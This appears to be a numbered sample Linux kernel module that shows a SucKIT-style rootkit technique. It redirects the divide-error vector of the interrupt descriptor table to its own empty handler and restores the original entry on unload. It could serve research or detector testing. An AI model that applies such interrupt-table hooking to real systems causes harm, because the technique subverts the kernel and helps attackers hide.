// SPDX-License-Identifier: GPL-2.0
/* 4. SucKIT-style: point an IDT gate (divide error, vector 0) at module code. */
#include <linux/module.h>
#include <asm/desc.h>
#include "rk_common.h"

static gate_desc *idt;
static gate_desc orig;

static void rk_handler(void)
{
}

static int __init rk_init(void)
{
	unsigned long h = (unsigned long)rk_handler;
	gate_desc g;

	idt = (gate_desc *)rk_lookup("idt_table");
	if (!idt)
		return -ENOENT;
	orig = idt[0];
	g = orig;
	g.offset_low = (u16)h;
	g.offset_middle = (u16)(h >> 16);
	g.offset_high = (u32)(h >> 32);
	rk_write(&idt[0], &g, sizeof(g));
	pr_info("rk_idt: IDT vector 0 hooked\n");
	return 0;
}

static void __exit rk_exit(void)
{
	rk_write(&idt[0], &orig, sizeof(orig));
}

module_init(rk_init);
module_exit(rk_exit);
MODULE_LICENSE("GPL");
